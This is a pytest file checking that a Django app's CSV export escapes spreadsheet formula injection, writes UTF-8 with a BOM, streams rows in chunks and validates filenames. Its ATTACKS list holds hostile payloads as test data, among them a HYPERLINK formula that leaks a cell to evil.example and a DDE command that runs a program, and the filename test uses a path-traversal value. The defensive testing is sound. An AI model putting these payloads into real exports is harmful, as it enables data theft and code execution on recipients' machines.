"""The one CSV writer every export uses (ADR-093): no formula runs, Excel reads UTF-8, nothing is
cached, and the file is streamed a chunk at a time."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from kindred.core.exports import (
    BOM,
    CONTENT_TYPE,
    FORMULA_STARTS,
    csv_chunks,
    csv_download,
    export_filename,
    spreadsheet_text,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def read_back(chunks) -> list[list[str]]:
    text = b"".join(chunks).decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(attack):
    assert spreadsheet_text(attack) == "'" + attack
    (_, row) = read_back(csv_chunks(["Name"], [[attack]]))
    assert row == ["'" + attack]  # the apostrophe survives quoting, and Excel shows the text


@pytest.mark.parametrize(
    "harmless", ["Maud Ashworth", "O'Brien", "Zoë Łukasiewicz", "a=b", "x - y", "", "07700 900123"]
)
def test_ordinary_text_is_written_as_it_is(harmless):
    assert spreadsheet_text(harmless) == harmless


@given(st.text())
def test_no_cell_read_back_starts_a_formula_and_nothing_is_lost(text):
    (_, row) = read_back(csv_chunks(["Cell"], [[text]]))
    (cell,) = row
    assert cell in (text, "'" + text)
    assert cell[:1] not in FORMULA_STARTS
    assert cell.lstrip()[:1] not in FORMULA_STARTS


def test_numbers_dates_and_yes_no_are_written_so_they_sort():
    summer = dt.datetime(2026, 7, 1, 12, 30, tzinfo=dt.UTC)
    assert spreadsheet_text(-3) == "-3"  # a number, not a formula
    assert spreadsheet_text(Decimal("-2.50")) == "-2.50"
    assert spreadsheet_text(2.5) == "2.5"
    assert spreadsheet_text(True) == "Yes" and spreadsheet_text(False) == "No"
    assert spreadsheet_text(None) == ""
    assert spreadsheet_text(dt.date(2026, 3, 5)) == "2026-03-05"
    assert spreadsheet_text(summer) == "2026-07-01 13:30"  # Europe/London, summer time


def test_the_file_is_utf8_with_a_byte_order_mark_and_crlf_lines():
    chunks = list(csv_chunks(["Name", "Note"], [["Zoë", 'said "hello", then left'], ["Siân", ""]]))
    raw = b"".join(chunks)
    assert raw.startswith(b"\xef\xbb\xbf")  # the mark, once, at the very start
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw == (
        b"\xef\xbb\xbfName,Note\r\n"
        + 'Zoë,"said ""hello"", then left"\r\n'.encode()
        + "Siân,\r\n".encode()
    )


def test_rows_are_read_only_as_far_as_the_chunk_being_sent():
    consumed = 0

    def rows():
        nonlocal consumed
        for n in range(25):
            consumed += 1
            yield [n]

    chunks = csv_chunks(["N"], rows(), rows_per_chunk=10)
    assert consumed == 0  # nothing happens before the server asks for the first chunk
    first = next(chunks)
    assert consumed == 10
    assert first.decode("utf-8").count("\r\n") == 11  # the header and ten rows
    rest = list(chunks)
    assert consumed == 25
    assert len(rest) == 2  # ten more, then the last five
    assert [row for (row,) in read_back([first, *rest])[1:]] == [str(n) for n in range(25)]


def test_an_empty_list_is_the_header_alone_and_a_full_last_chunk_leaves_no_empty_one():
    assert read_back(csv_chunks(["Name"], [])) == [["Name"]]
    chunks = list(csv_chunks(["N"], ([n] for n in range(20)), rows_per_chunk=10))
    assert len(chunks) == 2 and all(chunks)


def test_the_download_is_a_streamed_attachment_named_for_the_organisation_and_day():
    response = csv_download(
        organisation_slug="crafty-needles",
        what="caseload",
        header=["Name"],
        rows=iter([["=1+1"]]),
        on=dt.date(2026, 3, 5),
    )
    assert response.streaming
    assert response["Content-Type"] == CONTENT_TYPE == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="crafty-needles-caseload-2026-03-05.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    assert read_back(response.streaming_content) == [["Name"], ["'=1+1"]]


def test_the_file_is_named_for_today_in_london_and_nothing_else_can_name_it():
    assert export_filename(organisation_slug="x", what="referrals") == (
        f"x-referrals-{timezone.localdate().isoformat()}.csv"
    )
    for bad in ["", "../etc", "Caseload", 'a"b', "a b"]:
        with pytest.raises(ValueError):
            export_filename(organisation_slug="x", what=bad)
